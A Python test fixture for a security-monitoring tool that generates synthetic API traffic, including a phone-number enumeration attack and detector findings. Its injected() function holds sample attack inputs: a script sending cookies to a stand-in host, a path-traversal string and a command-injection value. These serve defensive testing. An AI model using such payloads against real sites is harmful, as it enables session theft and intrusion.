"""A house with a day of honest traffic and the attack of the breach, made from a fixed seed."""

from collections.abc import Iterator
from functools import lru_cache
from random import Random

from msgspec import Struct
from msgspec.structs import replace

from nightlatch.checks.attacks.evidence import worded
from nightlatch.checks.attacks.value import Clue, Place, Value
from nightlatch.exchange.credential import CredentialKind, CredentialState
from nightlatch.exchange.disclosure import DataClass, DataItem, Side
from nightlatch.exchange.exchange import Ending
from nightlatch.exchange.incident import Incident, IncidentState
from nightlatch.exchange.judgement import (
    ALLOW_OBSERVE,
    Action,
    Decision,
    Detection,
    DetectionKind,
    Finding,
    Level,
    Mode,
    Phase,
)
from nightlatch.exchange.record import Message, Posture, Record

NOW = 1_750_000_000.0
"""2025-06-15 15:06:40 UTC"""
HOUR = 3600.0
ATTACK_START = NOW - 1.2 * HOUR
ATTACK_SECONDS = 1.1 * HOUR
LOOKUP = "GET /v1/users/lookup/{phone}"
ALPHABET = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"


def item(path: str, kind: DataClass, sample: str, side: Side = Side.RESPONSE) -> DataItem:
    return DataItem(side, path, kind, 0.97, sample)


class Door(Struct, frozen=True):
    """One endpoint of the sample house, and how honest people use it."""

    endpoint: str
    path: str
    posture: Posture
    weight: int
    people: int
    """Distinct subjects it may tell about."""
    level: Level = Level.LOW
    reason: str = "No check failed that matters here."
    items: tuple[DataItem, ...] = ()
    failing: tuple[str, ...] = ("hsts", "server-header")
    credential: CredentialKind | None = CredentialKind.BEARER_JWT
    body: str = '{"status":"ok"}'

    @property
    def method(self) -> str:
        return self.endpoint.partition(" ")[0]


LOOKUP_ITEMS = (
    item("path.phone", DataClass.PHONE, "+1•••••••32", Side.REQUEST),
    item("$.phone", DataClass.PHONE, "+1•••••••32"),
    item("$.account_id", DataClass.ACCOUNT_ID, "9•••7"),
    item("$.devices[].id", DataClass.DEVICE_ID, "d-8•••••c1"),
)
PROFILE_ITEMS = (
    item("$.email", DataClass.EMAIL, "m•••@e•••.com"),
    item("$.name", DataClass.NAME, "M••• O•••"),
    item("$.phone", DataClass.PHONE, "+49•••••••08"),
    item("$.birth_date", DataClass.BIRTH_DATE, "19••-••-••"),
)
INVOICE_ITEMS = (
    item("$.payer.iban", DataClass.IBAN, "DE•• •••• ••42"),
    item("$.payer.address.street", DataClass.POSTAL_ADDRESS, "H•••••• 12"),
    item("$.payer.email", DataClass.EMAIL, "b•••@p•••.org"),
)
DOORS = (
    Door(
        LOOKUP,
        "/v1/users/lookup/+1•••••••32",
        Posture.OPEN,
        26,
        700,
        Level.HIGH,
        "Personal data (phone, account ID) went to a caller without a credential.",
        LOOKUP_ITEMS,
        ("personal-data-to-strangers", "missing-authentication", "missing-rate-limit", "hsts"),
        None,
        '{"phone":"+1•••••••32","account_id":"9•••7","status":"active","device_count":2,'
        '"devices":[{"id":"d-8•••••c1"}]}',
    ),
    Door(
        "GET /v1/invoices/{invoice_id}",
        "/v1/invoices/4•••1",
        Posture.MIXED,
        5,
        90,
        Level.MEDIUM,
        "A caller without a credential was answered; others must show one.",
        INVOICE_ITEMS,
        ("missing-authentication", "cacheable-personal-data", "hsts"),
        None,
        '{"id":"4•••1","payer":{"iban":"DE•• •••• ••42","email":"b•••@p•••.org"}}',
    ),
    Door(
        "GET /actuator/env",
        "/actuator/env",
        Posture.OPEN,
        1,
        0,
        Level.HIGH,
        "The answer carries a cloud key.",
        (item("$.aws.secret", DataClass.CLOUD_KEY, "wJ••••••••"),),
        ("secret-in-response", "missing-authentication", "hsts"),
        None,
        '{"aws":{"secret":"[redacted]"}}',
    ),
    Door("GET /v1/profile", "/v1/profile", Posture.PROTECTED, 24, 420, items=PROFILE_ITEMS),
    Door("PATCH /v1/profile", "/v1/profile", Posture.PROTECTED, 4, 80, items=PROFILE_ITEMS[:2]),
    Door(
        "POST /v1/register",
        "/v1/register",
        Posture.OPEN,
        6,
        0,
        items=(item("$.phone", DataClass.PHONE, "+44•••••••71", Side.REQUEST),),
        failing=("hsts",),
        credential=None,
        body='{"registration":"started"}',
    ),
    Door("POST /v1/verify", "/v1/verify", Posture.PROTECTED, 8, 0, failing=("hsts",)),
    Door(
        "GET /v1/partners/{partner}/members",
        "/v1/partners/acme/members",
        Posture.PROTECTED,
        3,
        260,
        Level.MEDIUM,
        "One answer carried 120 records.",
        (item("$.members[].email", DataClass.EMAIL, "k•••@a•••.io"),),
        ("excessive-records", "hsts"),
        CredentialKind.API_KEY,
    ),
    Door("GET /healthz", "/healthz", Posture.OPEN, 14, 0, failing=("hsts",), credential=None),
    Door("DELETE /v1/devices/{device_id}", "/v1/devices/d-8•••••c1", Posture.UNKNOWN, 1, 0),
)


@lru_cache
def make_records(honest: int, attack: int) -> tuple[Record, ...]:
    """Records in order of time, all before NOW; the same ones each time."""
    random = Random(7)
    made = [*_honest(random, honest), *_attack(random, attack)]
    made.sort(key=lambda record: record.at)
    return tuple(made)


def one_more(random: Random, now: float) -> Record:
    """A request of the attack that happens right now, for the live feed."""
    return _guess(random, now, f"203.0.113.{random.randrange(1, 250)}", attempts=12)


SCRIPT = "<script>fetch('//198.51.100.4/'+document.cookie)</script>"
UNBROKEN = "../" * 2_000


def injected() -> Record:
    """A request that carries attacks, told at the length that evidence may have."""
    told = [
        ("cross-site-scripting", "adds a script that reads the page's cookies", SCRIPT),
        ("path-traversal", "climbs out of its directory", UNBROKEN),
        ("command-injection", "runs `id` where it reaches a shell", "`id`"),
    ]
    findings = tuple(
        Finding(check, Level.HIGH, worded(Clue(92, why, text), Value(Place.JSON, "$.text", text)))
        for check, why, text in told
    )
    refusal = Decision(
        Action.REFUSE, Mode.OBSERVE, f"attack:{told[0][0]}", findings[0].evidence, 403
    )
    record = _visit(Random(9), DOORS[6], NOW - 1)
    return replace(
        record, level=Level.HIGH, reason=findings[0].evidence, decision=refusal, findings=findings
    )


def _honest(random: Random, number: int) -> Iterator[Record]:
    weights = [door.weight for door in DOORS]
    for _ in range(number):
        door = random.choices(DOORS, weights)[0]
        # Quiet at night, busy in the afternoon: thinned by a triangle over the day.
        at = NOW - 24 * HOUR + 24 * HOUR * random.triangular(0, 1, 0.95)
        yield _visit(random, door, at)


def _visit(random: Random, door: Door, at: float) -> Record:
    hit = random.random() < 0.93
    digest = random.randrange(door.people) + hash_space(door) if door.people else 0
    status = 200 if hit else random.choice((404, 401 if door.credential else 404, 422))
    address = f"198.51.100.{random.randrange(1, 200)}"
    level = door.level if hit else Level.LOW
    return _record(
        random,
        door,
        at,
        address,
        status,
        level,
        door.reason if hit else "Nothing left with this answer.",
        disclosed=(digest,) if hit and digest else (),
    )


def _attack(random: Random, number: int) -> Iterator[Record]:
    addresses = [f"203.0.113.{n}" for n in random.sample(range(1, 250), 64)]
    told = list(detections())
    for index in range(number):
        at = ATTACK_START + ATTACK_SECONDS * index / number + random.random()
        guess = _guess(random, at, random.choice(addresses), index)
        if told and told[0].at <= at:
            guess = replace(guess, detections=(told.pop(0),))
        yield guess


def _guess(random: Random, at: float, address: str, attempts: int) -> Record:
    hit = random.random() < 0.15
    decision = ALLOW_OBSERVE
    if attempts > 300:
        decision = Decision(
            Action.REFUSE,
            Mode.OBSERVE,
            "endpoint-walked",
            f"{attempts:,} distinct numbers were asked for here by strangers within the hour; "
            "85 % of them do not exist.",
            429,
            600,
            Phase.REQUEST,
        )
    return _record(
        random,
        DOORS[0],
        at,
        address,
        200 if hit else 404,
        Level.HIGH,
        "This caller guesses phone numbers: 85 % of those it asks for do not exist.",
        decision,
        (random.randrange(1, 2**63),) if hit else (),
    )


def _record(
    random: Random,
    door: Door,
    at: float,
    address: str,
    status: int,
    level: Level,
    reason: str,
    decision: Decision = ALLOW_OBSERVE,
    disclosed: tuple[int, ...] = (),
) -> Record:
    hit = status == 200
    items = door.items if hit else ()
    findings = tuple(
        Finding(check, level if index == 0 else Level.LOW, _evidence(check))
        for index, check in enumerate(door.failing if hit else door.failing[-1:])
    )
    state = CredentialState.ACCEPTED if hit else CredentialState.REJECTED
    return Record(
        id=record_id(random, at),
        at=at,
        duration=random.lognormvariate(-5.5, 0.7),
        service="accounts-api",
        endpoint=door.endpoint,
        method=door.method,
        scheme="https",
        host="api.example.com",
        path=door.path,
        query="",
        status=status,
        ending=Ending.ANSWERED,
        address=address,
        circles=(f"address:{address}", f"network:{address.rpartition('.')[0]}.0/24"),
        credential_kind=door.credential,
        credential_state=state if door.credential else CredentialState.NONE,
        level=level,
        reason=reason,
        decision=decision,
        findings=findings,
        skipped=("caller-reputation",),
        detections=(),
        items=items,
        asked=disclosed,
        disclosed=disclosed,
        hit=hit,
        posture=door.posture,
        request=_request(door),
        response=Message(
            (("content-type", "application/json"), ("server", "uvicorn")),
            door.body if hit else '{"detail":"Not found"}',
            len(door.body),
        ),
    )


def _request(door: Door) -> Message:
    headers = [
        ("host", "api.example.com"),
        ("user-agent", "ExampleApp/25.1 (iPhone; iOS 18.4)"),
        ("accept", "application/json"),
    ]
    if door.credential:
        headers.append(("authorization", "Bearer [redacted]"))
    return Message(tuple(headers))


def _evidence(check: str) -> str:
    return {
        "personal-data-to-strangers": "$.phone (+1•••••••32) and $.account_id (9•••7) in an answer "
        "to a caller without a credential.",
        "missing-authentication": "Neither Authorization, API key, cookie nor client certificate.",
        "missing-rate-limit": "No answer so far was 429 or carried RateLimit fields.",
        "server-header": "server: uvicorn",
        "secret-in-response": "$.aws.secret looks like an AWS secret access key.",
    }.get(check, "The header is not in the answer.")


def hash_space(door: Door) -> int:
    """Where the subjects of a door begin, so that doors do not share people."""
    return 1_000_000 * (1 + DOORS.index(door))


def record_id(random: Random, at: float) -> str:
    """A ULID: 10 characters of milliseconds, 16 of chance."""
    milliseconds, stamp = int(at * 1000), ""
    for _ in range(10):
        milliseconds, digit = divmod(milliseconds, 32)
        stamp = ALPHABET[digit] + stamp
    return stamp + "".join(random.choices(ALPHABET, k=16))


def detections() -> tuple[Detection, ...]:
    """What the detectors said of the attack, in order of time."""

    def told(kind: DetectionKind, circle: str, after: float, evidence: str, rate: float,
             subjects: int, attempts: int) -> Detection:  # fmt: skip
        return Detection(
            kind, LOOKUP, circle, Level.HIGH, ATTACK_START + after, evidence, rate, subjects,
            attempts,
        )  # fmt: skip

    return (
        told(
            DetectionKind.ENUMERATION,
            "network:203.0.113.0/24",
            60,
            "The network asked for 58 different numbers and came back to none of them.",
            1e-3,
            9,
            58,
        ),
        told(
            DetectionKind.DISTRIBUTED_ENUMERATION,
            "strangers",
            410,
            "Strangers asked for 224 distinct numbers in five minutes; on the days before never "
            "more than 31. 85 % of the numbers do not exist, where honest callers miss 6 %.",
            1e-4,
            34,
            224,
        ),
        told(
            DetectionKind.EXISTENCE_ORACLE,
            "strangers",
            560,
            "Answers differ by whether the number has an account: 200 for 15 %, 404 for the rest.",
            0.0,
            47,
            306,
        ),
        told(
            DetectionKind.BUDGET_EXCEEDED,
            "strangers",
            1500,
            "121 people's records left to strangers within the hour; the budget is 120.",
            0.0,
            121,
            814,
        ),
    )


def older_incidents() -> tuple[Incident, ...]:
    """One contained, one closed; their detections are no longer kept."""
    invoices = DOORS[1].endpoint
    return (
        _older("01JXQ00000000000000000BUDG", invoices, IncidentState.CONTAINED, 9, 143, 61),
        _older("01JXP00000000000000000OLD1", invoices, IncidentState.CLOSED, 31, 40, 12),
    )


def _older(
    incident_id: str, endpoint: str, state: IncidentState, hours: float, attempts: int, people: int
) -> Incident:
    opened = NOW - hours * HOUR
    return Incident(
        id=incident_id,
        endpoint=endpoint,
        kind=DetectionKind.BUDGET_EXCEEDED,
        title=f"More people's records than allowed leave through {endpoint}",
        level=Level.MEDIUM,
        state=state,
        opened=opened,
        last_seen=opened + 2400,
        attempts=attempts,
        subjects=people,
        refused=38 if state is IncidentState.CONTAINED else 0,
        callers=3,
    )
